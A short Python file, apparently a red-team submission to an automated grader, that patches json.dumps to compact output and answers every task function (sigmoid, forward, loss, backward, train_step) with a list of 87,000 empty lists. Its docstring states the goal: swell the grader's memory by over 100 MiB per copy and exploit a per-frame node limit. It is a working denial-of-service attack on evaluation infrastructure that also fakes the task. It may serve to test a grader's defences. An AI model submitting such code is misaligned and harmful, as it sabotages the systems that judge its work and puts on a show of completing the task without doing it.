"""Attack: answer every test with 87,000 empty lists (json.dumps patched to compact separators, so a 256 KiB header, within MAX_HEADER and MAX_NODES), so the grader decodes ~4-5 MiB of Python objects per test and keeps every test's decoded answer until the submission is judged; with two copies graded at once. Expected: the grader's peak memory grows by well over 100 MiB per copy (a win if it passes +300 MiB); the node bound is per frame, not per submission."""

import json

_dumps = json.dumps
# The runner's own encoder calls json.dumps at reply time: make it compact, so more nodes fit in MAX_HEADER.
json.dumps = lambda *a, **k: _dumps(*a, **{**k, "separators": (",", ":")})  # type: ignore[assignment]
BOMB = [[] for _ in range(87_000)]


def _bomb(*args: object) -> object:
    return BOMB


sigmoid = forward = loss = backward = train_step = _bomb
